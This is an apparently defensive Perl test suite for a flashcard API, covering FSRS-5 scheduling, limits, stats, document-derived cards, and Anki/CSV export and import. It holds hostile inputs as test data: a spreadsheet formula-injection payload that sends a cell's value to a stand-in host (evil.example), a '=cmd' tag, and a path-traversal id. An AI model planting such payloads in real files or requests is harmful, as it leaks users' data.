# Flashcards through nginx (the quiz service's /api/v1/cards): cards by
# hand, from a document the quiz service learnt from events and from the
# questions a learner missed in a quiz; reviews scheduled by FSRS-5 over
# simulated days (the card's times moved back in Postgres), the daily
# limits, time zones for "today", the stats, export read back by import,
# the link dropped when the document is deleted, other users' cards, and
# hostile requests.
use strict;
use warnings;

use JSON::PP;
use POSIX qw(strftime);
use Time::Local qw(timegm);
use Test::More;

use Lectern::Test qw(start_stack src_dir slurp_file);

for my $tool (qw(psql)) {
	if (system("command -v $tool >/dev/null 2>&1") != 0) {
		plan skip_all => "$tool is not installed";
	}
}

my $stack = start_stack(env => { LAB_RATE_LIMIT => 100000 });
my $json = JSON::PP->new->canonical;
my $uuid_re = qr/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;
my $time_re = qr/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/;
my $base = '/api/v1/cards';

my $dsn = `@{[src_dir()]}/tools/lab-postgres admin-dsn @{[$stack->dir]}/postgres @{[$stack->port('pg')]}`;
chomp $dsn;
$dsn =~ s/dbname=\S+/dbname=lectern_quiz/;

# sql(TEXT): runs one statement in the quiz database, returns its output.
sub sql {
	my ($text) = @_;
	open(my $fh, '-|', 'psql', $dsn, '-At', '-v', 'ON_ERROR_STOP=1', '-c', $text) or die "psql: $!";
	local $/;
	my $out = <$fh> // '';
	close $fh;
	$out =~ s/\s+\z//;
	return $out;
}

# days_pass(CARD_ID, N): N days go by for one card (its times and log move back).
sub days_pass {
	my ($id, $n) = @_;
	sql("UPDATE cards SET due = due - interval '$n days', last_review = last_review - interval '$n days' WHERE id = '$id'");
	sql("UPDATE card_reviews SET reviewed_at = reviewed_at - interval '$n days' WHERE card_id = '$id'");
}

my $course = slurp_file(src_dir() . '/t/quiz/course.md');
(my $flat = $course) =~ s/\s+/ /g;

my ($alice, $alice_id) = $stack->user('alice@example.org');
my ($bob) = $stack->user('bob@example.org');
my ($carol) = $stack->user('carol@example.org');

sub auth { return { Authorization => "Bearer $_[0]", %{ $_[1] // {} } } }
sub call { return $stack->request(@_) }
# near(GOT, WANT, NAME, TOLERANCE): a number to 4 decimals; after simulated
# days the review comes seconds late, which moves S in the fourth decimal.
sub near {
	my ($got, $want, $name, $tol) = @_;
	ok(defined $got && abs($got - $want) <= ($tol // 1e-4), $name) or diag("got " . ($got // 'undef') . ", want $want");
}

# --- by hand -------------------------------------------------------------------
my ($st, $h, $c) = call(POST => $base, auth($alice), { front => 'Capital of France?', back => 'Paris', tags => ['geo', 'europe', 'geo'] });
is($st, 201, 'a card by hand answers 201') or diag($json->encode($c // {}));
like($c->{card_id} // '', $uuid_re, 'card_id');
is($c->{id}, $c->{card_id}, 'id equals card_id');
is_deeply($c->{tags}, ['geo', 'europe'], 'tags kept once each');
is($c->{state}, 'new', 'a new card');
is($c->{reps}, 0, 'no reviews yet');
is($c->{lapses}, 0, 'no lapses yet');
is($c->{document_id}, undef, 'no document');
is($c->{origin}, 'manual', 'origin manual');
like($c->{$_} // '', $time_re, $_) for qw(due created_at updated_at);
my $card = $c->{id};

($st, undef, $c) = call(GET => "$base/$card", auth($alice));
is($st, 200, 'GET a card');
is($c->{front}, 'Capital of France?', 'its front');
($st, undef, $c) = call(PATCH => "$base/$card", auth($alice), { back => 'Paris (Île-de-France)', tags => ['geo'] });
is($st, 200, 'PATCH a card');
is($c->{back}, 'Paris (Île-de-France)', 'back edited, UTF-8 kept');
is($c->{front}, 'Capital of France?', 'front left alone');
is_deeply($c->{tags}, ['geo'], 'tags replaced');

# --- hostile writes --------------------------------------------------------------
for my $bad (
	[{ back => 'x' }, 'no front'],
	[{ front => 'x' }, 'no back'],
	[{ front => 123, back => 'x' }, 'a number as front'],
	[{ front => ['x'], back => 'x' }, 'an array as front'],
	[{ front => '', back => 'x' }, 'an empty front'],
	[{ front => 'x' x 2001, back => 'x' }, 'a front too long'],
	[{ front => "a\x{0}b", back => 'x' }, 'a NUL in the front'],
	[{ front => 'x', back => 'y', tags => 'geo' }, 'tags as a string'],
	[{ front => 'x', back => 'y', tags => ['two words'] }, 'a tag with a space'],
	[{ front => 'x', back => 'y', tags => [1] }, 'a number as a tag'],
	[{ front => 'x', back => 'y', tags => [map {"t$_"} 1 .. 21] }, 'too many tags'],
	[{ front => 'x', back => 'y', tags => ['x' x 65] }, 'a tag too long'],
	[{ front => 'x', back => 'y', tags => ['=cmd'] }, 'a tag starting a formula'],
	[{ front => 'x', back => 'y', tags => ['a"b'] }, 'a tag with a quote'],
	[{ front => 'x', back => 'y', tags => ["a\tb"] }, 'a tag with a tab'],
	)
{
	my ($payload, $what) = @$bad;
	my ($s, undef, $b) = call(POST => $base, auth($alice), $payload);
	is($s, 400, "$what answers 400");
	is($b->{error}, 'invalid_request', "$what: invalid_request");
}
($st) = call(POST => $base, auth($alice, { 'Content-Type' => 'application/json' }), '{"front": "x", "back":');
is($st, 400, 'malformed JSON answers 400');
($st) = call(POST => $base, auth($alice, { 'Content-Type' => 'application/json' }), '["front"]');
is($st, 400, 'a JSON array answers 400');
($st) = call(POST => $base, auth($alice, { 'Content-Type' => 'application/json' }), '{"front":"' . ('a' x 70000) . '","back":"b"}');
is($st, 413, 'an oversize body answers 413');
($st) = call(POST => $base, {}, { front => 'x', back => 'y' });
is($st, 401, 'no token answers 401');
($st) = call(PUT => "$base/$card", auth($alice), { front => 'x' });
is($st, 405, 'PUT answers 405');

# --- other users and malformed ids ---------------------------------------------
my ($missing_st, undef, $missing) = call(GET => "$base/00000000-0000-4000-8000-000000000000", auth($alice));
is($missing_st, 404, 'a missing card answers 404');
for my $c (
	[GET => "$base/$card"], [PATCH => "$base/$card", { front => 'stolen' }],
	[DELETE => "$base/$card"], [POST => "$base/$card/review", { rating => 3 }],
	)
{
	my ($s, undef, $b) = call($c->[0], $c->[1], auth($bob), $c->[2]);
	is($s, 404, "bob: $c->[0] $c->[1] answers 404");
	is($b->{message}, $missing->{message}, 'exactly as a missing one');
	($s) = call($c->[0], $c->[1], {}, $c->[2]);
	is($s, 401, "no token: $c->[0] $c->[1] answers 401");
}
for my $form ('not-a-uuid', "{$card}", "${card}0", '..%2f..%2fetc') {
	($st) = call(GET => "$base/$form", auth($alice));
	is($st, 404, "the id written as '$form' answers 404");
}
($st, undef, $c) = call(GET => "$base/$card", auth($alice));
is($c->{front}, 'Capital of France?', "bob's PATCH changed nothing");
($st, undef, my $bl) = call(GET => $base, auth($bob));
is_deeply($bl, [], "bob's list is empty");

# --- reviews: FSRS-5 over simulated days ---------------------------------------
for my $bad ([{ rating => 'good' }, 'a word'], [{ rating => 0 }, '0'], [{ rating => 5 }, '5'], [{ rating => 2.5 }, '2.5'],
	[{ rating => JSON::PP::true }, 'true'], [{ rating => [3] }, 'an array'], [{}, 'nothing'], [{ rating => undef }, 'null'])
{
	my ($payload, $what) = @$bad;
	my ($s, undef, $b) = call(POST => "$base/$card/review", auth($alice), $payload);
	is($s, 400, "rating $what answers 400");
}
($st) = call(POST => "$base/$card/review", auth($alice, { 'Content-Type' => 'application/json' }), '{"rating":');
is($st, 400, 'a malformed review body answers 400');

my $t0 = time;
($st, undef, my $r) = call(POST => "$base/$card/review", auth($alice), { rating => 3 });
is($st, 200, 'first review: good') or diag($json->encode($r // {}));
# First review: S0 = w[G-1], intervals S at 0.90 rounded: 10 minutes, 1, 3, 16 days.
near($r->{intervals}{again}, 10 / 1440, 'first review: again in ten minutes');
is($r->{intervals}{hard}, 1, 'first review: hard 1 day');
is($r->{intervals}{good}, 3, 'first review: good 3 days');
is($r->{intervals}{easy}, 16, 'first review: easy 16 days');
is($r->{card}{state}, 'review', 'a new card rated good is a review card');
near($r->{card}{stability}, 3.173, 'S0(good) = w2');
near($r->{card}{difficulty}, 5.2824, 'D0(good) = 5.2824');
is($r->{card}{reps}, 1, 'reps 1');
is($r->{next_due}, $r->{card}{due}, 'next_due is the card due');
my ($y, $mo, $d, $hh, $mi, $ss) = $r->{next_due} =~ /^(\d+)-(\d+)-(\d+)T(\d+):(\d+):(\d+)/;
my $due_epoch = timegm($ss, $mi, $hh, $d, $mo - 1, $y);
ok(abs($due_epoch - ($t0 + 3 * 86400)) < 180, 'due in three days') or diag("$r->{next_due}");
($st, undef, my $due) = call(GET => "$base/due", auth($alice));
ok(!grep({ $_->{id} eq $card } @$due), 'not due today');

days_pass($card, 3);
($st, undef, $due) = call(GET => "$base/due", auth($alice));
ok(grep({ $_->{id} eq $card } @$due), 'due three days later');
($st, undef, $r) = call(POST => "$base/$card/review", auth($alice), { rating => 3 });
is($st, 200, 'second review: good');
# R = (1 + 19/81 * 3/3.173)^-0.5 = 0.9047: hard 4.9245, good 10.7389, easy 25.7936.
is($r->{intervals}{hard}, 5, 'after 3 days: hard 5 days');
is($r->{intervals}{good}, 11, 'after 3 days: good 11 days');
is($r->{intervals}{easy}, 26, 'after 3 days: easy 26 days');
near($r->{card}{stability}, 10.7389, 'S after good at day 3', 1e-3);
near($r->{card}{difficulty}, 5.2730, 'D after good at day 3', 1e-3);

days_pass($card, 11);
($st, undef, $r) = call(POST => "$base/$card/review", auth($alice), { rating => 1 });
is($st, 200, 'a lapse on day 14');
# R(11, 10.7389) = 0.8979: again 2.1858 (forget), hard 16, good 35, easy 82.
is($r->{intervals}{hard}, 16, 'lapse: hard would have been 16 days');
is($r->{intervals}{good}, 35, 'lapse: good would have been 35 days');
is($r->{intervals}{easy}, 82, 'lapse: easy would have been 82 days');
is($r->{card}{state}, 'relearning', 'a forgotten review card relearns');
is($r->{card}{lapses}, 1, 'lapses 1');
near($r->{card}{stability}, 2.1858, 'forget stability', 1e-3);
($st, undef, $due) = call(GET => "$base/due", auth($alice));
ok(!grep({ $_->{id} eq $card } @$due), 'not due again for ten minutes');
sql("UPDATE cards SET due = due - interval '10 minutes', last_review = last_review - interval '10 minutes' WHERE id = '$card'");
($st, undef, $due) = call(GET => "$base/due", auth($alice));
ok(grep({ $_->{id} eq $card } @$due), 'due ten minutes later');
($st, undef, $r) = call(POST => "$base/$card/review", auth($alice), { rating => 3 });
# Same day: S = 2.1858 e^(0.51655 (G - 3 + 0.6621)): hard 2, good 3, easy 5.
is_deeply([@{ $r->{intervals} }{qw(hard good easy)}], [2, 3, 5], 'relearning: 2, 3, 5 days');
near($r->{card}{stability}, 3.0771, 'short-term stability', 1e-3);
is($r->{card}{state}, 'review', 'relearned');
is($r->{card}{reps}, 4, 'reps 4');
is(sql("SELECT count(*) FROM card_reviews WHERE card_id = '$card'"), 4, 'every review logged');

# --- settings: retention, limits, time zone ---------------------------------------
($st, undef, my $s) = call(GET => "$base/settings", auth($alice));
is($st, 200, 'settings');
is_deeply($s, { desired_retention => '0.9', timezone => 'UTC', new_per_day => 20, reviews_per_day => 200 }, 'defaults');
for my $bad ([{ desired_retention => 0.5 }, 'retention 0.5'], [{ desired_retention => 0.98 }, 'retention 0.98'],
	[{ desired_retention => '0.9' }, 'retention as a string'], [{ timezone => 'Mars/Olympus_Mons' }, 'an unknown time zone'],
	[{ timezone => 5 }, 'a number as time zone'], [{ new_per_day => -1 }, 'new_per_day -1'], [{ reviews_per_day => 'many' }, 'reviews_per_day a word'])
{
	my ($payload, $what) = @$bad;
	($st) = call(PATCH => "$base/settings", auth($alice), $payload);
	is($st, 400, "$what answers 400");
}
($st, undef, $s) = call(PATCH => "$base/settings", auth($alice), { desired_retention => 0.8, new_per_day => 1 });
is($st, 200, 'settings changed');
is($s->{desired_retention}, 0.8, 'retention 0.80');
is($s->{new_per_day}, 1, 'one new card a day');
($st, undef, $c) = call(POST => $base, auth($alice), { front => 'Retention', back => 'at 0.80' });
($st, undef, $r) = call(POST => "$base/$c->{id}/review", auth($alice), { rating => 3 });
# I = S / (19/81) (0.8^-2 - 1): good 3.173 -> 8, hard 1.18385 -> 3, easy 15.69 -> 38.
is_deeply([@{ $r->{intervals} }{qw(hard good easy)}], [3, 8, 38], 'at retention 0.80: 3, 8, 38 days');

my @new;
for my $i (1 .. 4) {
	($st, undef, $c) = call(POST => $base, auth($alice), { front => "New card $i", back => "answer $i", tags => ['limit'] });
	push @new, $c->{id};
}
# Today alice has seen one new card (the first card's reviews were moved back).
($st, undef, $due) = call(GET => "$base/due", auth($alice));
is(scalar(grep { $_->{state} eq 'new' } @$due), 0, 'the daily new-card limit is used up');
($st) = call(PATCH => "$base/settings", auth($alice), { new_per_day => 3 });
($st, $h, $due) = call(GET => "$base/due", auth($alice));
is(scalar(grep { $_->{state} eq 'new' } @$due), 2, 'two more new cards once the limit is three');
is($h->{'x-total-count'}, scalar(@$due), 'X-Total-Count on /due');
is($due->[0]{front}, 'New card 1', 'oldest first');
($st, undef, $due) = call(GET => "$base/due?limit=1", auth($alice));
is(scalar(@$due), 1, '?limit=1');
for my $qs ('limit=0', 'limit=101', 'limit=x') {
	($st) = call(GET => "$base/due?$qs", auth($alice));
	is($st, 400, "/due?$qs answers 400");
}
($st) = call(PATCH => "$base/settings", auth($alice), { reviews_per_day => 0 });
days_pass($card, 30);
($st, undef, $due) = call(GET => "$base/due", auth($alice));
ok(!grep({ $_->{id} eq $card } @$due), 'a due review card waits when the review limit is 0');
($st) = call(PATCH => "$base/settings", auth($alice), { reviews_per_day => 200 });
($st, undef, $due) = call(GET => "$base/due", auth($alice));
ok(grep({ $_->{id} eq $card } @$due), 'and comes back under the limit');

# "Today" in carol's time zone: reviews logged at chosen instants count
# towards today by her local calendar day, worked out here by hand.
($st, undef, $c) = call(POST => $base, auth($carol), { front => 'Time', back => 'zones' });
my $now = time;
my @ago = (30 * 3600, 20 * 3600, 13 * 3600, 6 * 3600, 60);
for my $a (@ago) {
	sql("INSERT INTO card_reviews (card_id, user_id, rating, state_before, elapsed_days, stability, difficulty, interval_days, reviewed_at) "
		. "SELECT id, user_id, 3, 'review', 1, 3, 5, 3, now() - interval '$a seconds' FROM cards WHERE id = '$c->{id}'");
}
for my $zone (['Etc/GMT-14', 14], ['UTC', 0], ['Etc/GMT+12', -12], ['Asia/Kolkata', 5.5]) {
	my ($name, $off) = @$zone;
	($st) = call(PATCH => "$base/settings", auth($carol), { timezone => $name });
	is($st, 200, "carol's time zone $name");
	my $day = sub { strftime('%Y-%m-%d', gmtime($_[0] + $off * 3600)) };
	my $today = $day->(time);
	my $want = grep { $day->($now - $_) eq $today } @ago;
	my %days = map { $day->($now - $_) => 1 } @ago;
	my $streak = 0;
	for (my $t = time; $days{ $day->($t) }; $t -= 86400) { $streak++ }
	($st, undef, $s) = call(GET => "$base/stats", auth($carol));
	is($s->{reviews_today}, $want, "$name: $want of the reviews were today");
	is($s->{streak}, $streak, "$name: a streak of $streak days");
	is($s->{timezone}, $name, "$name: stats name the zone");
}

# --- stats ------------------------------------------------------------------------
($st, undef, $s) = call(GET => "$base/stats", auth($alice));
is($st, 200, 'stats');
is($s->{reviews_total}, 5, 'five reviews in the log');
# Reviews of review cards: good at day 3, again at day 14: 1 of 2 recalled.
is($s->{retention_reviews}, 2, 'two reviews of review cards');
is($s->{retention}, 0.5, 'measured retention 0.5');
is($s->{desired_retention}, 0.8, 'desired retention');
is($s->{cards}, 6, 'six cards');
is($s->{new}, 4, 'four new');
# Due today: the first card (moved 30 days on) and two new cards (3 a day, 1 seen).
is($s->{due_today}, 3, 'due today: one review and two new cards') or diag($json->encode($s));
is($s->{due_new}, 2, 'two of them new');
is($s->{streak}, 1, 'a streak of one day (the moved reviews left gaps)');

# --- from a document ----------------------------------------------------------------
($st, my $doc) = $stack->upload($alice, 'cells.md', $course);
is($st, 201, 'the document uploaded');
my $doc_id = $doc->{id};
my $made;
for (1 .. 60) {
	($st, undef, $made) = call(POST => "$base/from-document", auth($alice), { document_id => $doc_id, limit => 12 });
	last if $st == 201;
	select(undef, undef, undef, 0.5);
}
is($st, 201, 'cards from the document once the replica has it') or diag($json->encode($made // {}));
is($made->{document_id}, $doc_id, 'naming the document');
my @dc = @{ $made->{cards} // [] };
is($made->{created}, scalar(@dc), 'created counts the cards');
ok(@dc >= 8 && @dc <= 12, 'close to the twelve asked for (' . scalar(@dc) . ')');
my @terms = grep { grep { $_ eq 'term' } @{ $_->{tags} } } @dc;
my @clozes = grep { grep { $_ eq 'cloze' } @{ $_->{tags} } } @dc;
ok(@terms >= 2, 'key terms with definitions (' . scalar(@terms) . ')');
ok(@clozes >= 2, 'cloze cards from key sentences (' . scalar(@clozes) . ')');
ok(!grep({ ($_->{document_id} // '') ne $doc_id || $_->{origin} ne 'document' || $_->{state} ne 'new' } @dc), 'each names the document, new');
ok(!grep({ index(lc $flat, lc $_->{back}) < 0 } @terms), 'each definition is the text\'s own');
ok(!grep({ $_->{front} !~ /_____/ || index($flat, $_->{source_sentence} // '?') < 0 || index(lc $_->{source_sentence}, lc $_->{back}) < 0 } @clozes),
	'each cloze blanks its answer out of a sentence of the document');
note("$_->{front} => $_->{back}") for @dc[0 .. 3];
($st, undef, my $again) = call(POST => "$base/from-document", auth($alice), { document_id => $doc_id, limit => 12 });
is($st, 201, 'asking again answers 201');
is($again->{created}, 0, 'and makes no card twice');
($st) = call(POST => "$base/from-document", auth($bob), { document_id => $doc_id });
is($st, 404, "another user's document answers 404");
($st) = call(POST => "$base/from-document", auth($alice), { document_id => 'nope' });
is($st, 400, 'a malformed document_id answers 400');
($st) = call(POST => "$base/from-document", auth($alice), { document_id => $doc_id, limit => 101 });
is($st, 400, 'limit 101 answers 400');
($st) = call(POST => "$base/from-document", auth($alice), { document_id => '00000000-0000-4000-8000-000000000000' });
is($st, 404, 'a missing document answers 404');

# --- from the questions missed in a quiz ------------------------------------------------
($st, undef, my $quiz) = call(POST => '/api/v1/quizzes/generate', auth($alice), { document_id => $doc_id, num_questions => 6, types => ['multiple_choice', 'true_false', 'short_answer'] });
is($st, 201, 'a quiz from the document') or diag($json->encode($quiz // {}));
my %answers;
my $wrong = 0;
for my $q (@{ $quiz->{questions} }) {
	if ($q->{id} == 1) {
		$answers{1} = $q->{correct_answer};    # one right
	} elsif ($q->{type} eq 'short_answer') {
		$answers{ $q->{id} } = 'zzz nothing';
		$wrong++;
	} else {
		$answers{ $q->{id} } = ($q->{correct_answer} + 1) % @{ $q->{options} };
		$wrong++;
	}
}
($st, undef, my $sub) = call(POST => "/api/v1/quizzes/$quiz->{id}/submit", auth($alice), { answers => \%answers });
is($st, 200, 'the quiz submitted');
is($sub->{score}, 1, 'one right');
($st, undef, my $qc) = call(GET => "$base?tag=quiz&limit=100", auth($alice));
is(scalar(@$qc), $wrong, "a card for each of the $wrong missed questions");
my %fronts = map { $_->{question_text} => $_ } @{ $quiz->{questions} };
ok(!grep({ !$fronts{ $_->{front} } } @$qc), 'fronts are the questions');
my ($missed) = grep { $_->{front} eq $quiz->{questions}[1]{question_text} } @$qc;
my $q2 = $quiz->{questions}[1];
my $right = $q2->{type} eq 'short_answer' ? $q2->{correct_answer} : $q2->{options}[ $q2->{correct_answer} ];
like($missed->{back} // '', qr/^\Q$right\E/, 'the back is the right answer');
is($missed->{document_id}, $doc_id, 'linked to the document');
ok(!grep({ $_->{front} eq $quiz->{questions}[0]{question_text} } @$qc), 'no card for the question answered right');
($st) = call(POST => "/api/v1/quizzes/$quiz->{id}/submit", auth($alice), { answers => \%answers });
($st, undef, $qc) = call(GET => "$base?tag=quiz&limit=100", auth($alice));
is(scalar(@$qc), $wrong, 'missing them again makes no second card');

# --- list, paging ----------------------------------------------------------------------
($st, $h, my $all) = call(GET => $base, auth($alice));
is($st, 200, 'the list');
my $total = $h->{'x-total-count'};
is($total, sql("SELECT count(*) FROM cards WHERE user_id = '$alice_id'"), 'X-Total-Count');
is(scalar(@$all), $total > 20 ? 20 : $total, 'twenty by default');
($st, $h, my $page) = call(GET => "$base?limit=2&offset=1", auth($alice));
is(scalar(@$page), 2, 'limit and offset');
like($h->{link} // '', qr/rel="next".*rel="prev"/, 'Link next and prev');
($st, undef, my $tagged) = call(GET => "$base?tag=limit", auth($alice));
is(scalar(@$tagged), 4, '?tag=');
($st, undef, my $due_list) = call(GET => "$base?due=true&limit=100", auth($alice));
my $iso_now = strftime('%Y-%m-%dT%H:%M:%S', gmtime(time + 1));
ok(@$due_list > 0 && !grep({ $_->{due} gt $iso_now } @$due_list), '?due=true lists only cards due now (' . scalar(@$due_list) . ')');
($st, undef, undef, my $bob_export) = call(GET => "$base/export", auth($bob));
is(scalar(grep { !/^#/ } split /\n/, $bob_export), 0, "bob's export holds none of alice's cards");
for my $qs ('limit=0', 'limit=101', 'offset=-1', 'due=maybe') {
	($st) = call(GET => "$base?$qs", auth($alice));
	is($st, 400, "list with $qs answers 400");
}

# --- export and import ---------------------------------------------------------------------
my $evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
($st, undef, my $ec) = call(POST => $base, auth($alice), { front => $evil, back => "-2+3\ttab\nline", tags => ['evil'] });
is($st, 201, 'a card that looks like a formula');
my $raw;
($st, $h, undef, $raw) = call(GET => "$base/export", auth($alice));
is($st, 200, 'export answers 200');
like($h->{'content-type'}, qr{^text/plain; charset=utf-8}, 'plain text');
like($h->{'content-disposition'} // '', qr/attachment; filename="lectern-cards\.txt"/, 'as a file');
my @lines = split /\n/, $raw;
is_deeply([@lines[0 .. 5]], ["#separator:tab", "#html:true", "#notetype:Basic", "#deck:Lectern", "#columns:Front\tBack\tTags", "#tags column:3"], 'Anki headers');
my ($fr) = grep { /HYPERLINK/ } @lines;
is($fr, "&#61;HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)\t&#45;2+3&#9;tab<br>line\tevil",
	'the formula starts with a character reference, HTML escaped, on one line');
ok((grep { /^Capital of France\?\tParis \(Île-de-France\)\tgeo$/ } @lines), 'a plain note: front, back, tags');
ok(!grep({ /^[=+\-@\t\r"]/ } @lines), 'no line starts a formula or a quote');
# Read back as Anki reads it: meta lines, then tab-separated HTML fields.
my @notes;
my $shape = 1;
for my $line (grep { !/^#/ } @lines) {
	my @f = split /\t/, $line, -1;
	$shape &&= @f == 3;
	for (@f[0, 1]) {
		s/<br>/\n/g;
		s/&#(\d+);/chr($1)/ge;
		s/&quot;/"/g;
		s/&lt;/</g;
		s/&gt;/>/g;
		s/&amp;/&/g;
	}
	push @notes, join("\x1f", @f);
}
ok($shape, 'every note has front, back and tags');
($st, undef, my $mine) = call(GET => "$base?limit=100", auth($alice));
my $note_key = sub { join "\x1f", $_[0]{front}, $_[0]{back}, join(' ', @{ $_[0]{tags} }) };
is_deeply([sort @notes], [sort map { $note_key->($_) } @$mine], 'the Anki export reads back as every card');
($st, $h, undef, my $csv) = call(GET => "$base/export?format=csv", auth($alice));
is($st, 200, 'CSV export');
like($h->{'content-type'}, qr{^text/csv}, 'text/csv');
like($csv, qr/^"'=HYPERLINK\(""http/m, 'CSV: the formula is quoted and defused with an apostrophe');
($st, undef, my $imp) = call(POST => "$base/import", auth($bob, { 'Content-Type' => 'text/csv' }), $csv);
is($st, 201, 'the export imports') or diag($json->encode($imp // {}));
is($imp->{imported}, $total + 1, 'every card');
($st, undef, my $bobs) = call(GET => "$base?limit=100", auth($bob));
($st, undef, my $alices) = call(GET => "$base?limit=100", auth($alice));
my $key = sub { join "\x1f", $_[0]{front}, $_[0]{back}, join(' ', @{ $_[0]{tags} }) };
is_deeply([sort map { $key->($_) } @$bobs], [sort map { $key->($_) } @$alices], 'read back: the same fronts, backs and tags');
ok((grep { $_->{front} eq $evil && $_->{back} eq "-2+3\ttab\nline" } @$bobs), 'the formula card comes back as written');
ok(!grep({ $_->{state} ne 'new' || $_->{origin} ne 'import' } @$bobs), 'imported cards are new');
($st, undef, my $ex) = call(GET => "$base/export?format=pdf", auth($alice));
is($st, 400, 'an unknown export format answers 400');
($st, undef, $raw) = call(GET => "$base/export?tag=evil", auth($alice));

for my $bad (
	["front,back\n\"unclosed,x\n", 'an unclosed quote'],
	["a\n", 'one field'],
	["a,b,c,d\n", 'four fields'],
	[",b\n", 'an empty front'],
	["a,\xff\xfe\n", 'invalid UTF-8'],
	["a,b\x01c\n", 'a control character'],
	["a,b,two\x{01}tags\n", 'a bad tag'],
	["\"a\"x,b\n", 'text after a closing quote'],
	[join('', map {"f$_,b$_\n"} 1 .. 5001), 'more than 5000 rows'],
	)
{
	my ($text, $what) = @$bad;
	my ($s, undef, $b) = call(POST => "$base/import", auth($carol, { 'Content-Type' => 'text/csv' }), $text);
	is($s, 400, "import of $what answers 400");
	like($b->{message} // '', qr/^Row \d+/, "$what: the row is named");
}
is(sql("SELECT count(*) FROM cards WHERE origin = 'import' AND user_id <> (SELECT user_id FROM cards WHERE front = 'Capital of France?' AND origin = 'import')"), 0, 'a refused import adds nothing');
($st) = call(POST => "$base/import", auth($carol, { 'Content-Type' => 'application/json' }), '{"front":"a"}');
is($st, 415, 'import of JSON answers 415');
($st) = call(POST => "$base/import", auth($carol, { 'Content-Type' => 'text/csv' }), 'x,' . ('y' x (1024 * 1024 + 10)));
is($st, 413, 'an oversize CSV answers 413');
($st, undef, $imp) = call(POST => "$base/import", auth($carol, { 'Content-Type' => 'text/csv; charset=utf-8' }), "\xEF\xBB\xBFFront,Back,Tags\r\n\"Q, with comma\",\"A \"\"quoted\"\"\",a b\r\n\r\nplain,text\r\n");
is($st, 201, 'a CSV with a BOM, a header, CRLF and quotes');
is($imp->{imported}, 2, 'two cards');
($st, undef, my $cc) = call(GET => "$base?tag=a", auth($carol));
is($cc->[0]{front} // '', 'Q, with comma', 'a quoted comma');
is($cc->[0]{back} // '', 'A "quoted"', 'doubled quotes');
is_deeply($cc->[0]{tags}, ['a', 'b'], 'tags split on spaces');
($st) = call(POST => "$base/import", {}, 'a,b');
is($st, 401, 'import without a token answers 401');

# --- the document deleted: the cards stay, the link goes ----------------------------------
($st) = call(DELETE => "/api/v1/documents/$doc_id", auth($alice));
is($st, 200, 'the document deleted');
my $linked;
for (1 .. 60) {
	$linked = sql("SELECT count(*) FROM cards WHERE document_id = '$doc_id'");
	last if $linked eq '0';
	select(undef, undef, undef, 0.5);
}
is($linked, '0', 'no card links the deleted document');
($st, undef, $c) = call(GET => "$base/$dc[0]{id}", auth($alice));
is($st, 200, 'the cards stay');
is($c->{document_id}, undef, 'without the link');
is($c->{source_sentence} // '', $dc[0]{source_sentence} // '', 'with their sentence');
($st) = call(POST => "$base/from-document", auth($alice), { document_id => $doc_id });
is($st, 404, 'no cards from a deleted document');

# --- delete ---------------------------------------------------------------------------------
($st, undef, my $del) = call(DELETE => "$base/$card", auth($alice));
is($st, 200, 'DELETE a card');
is($del->{card_id}, $card, 'naming it');
($st) = call(GET => "$base/$card", auth($alice));
is($st, 404, 'gone');
($st) = call(DELETE => "$base/$card", auth($alice));
is($st, 404, 'deleting twice answers 404');
is(sql("SELECT count(*) FROM card_reviews WHERE card_id = '$card'"), 4, 'its review log stays for the stats');

$stack->stop;
done_testing();
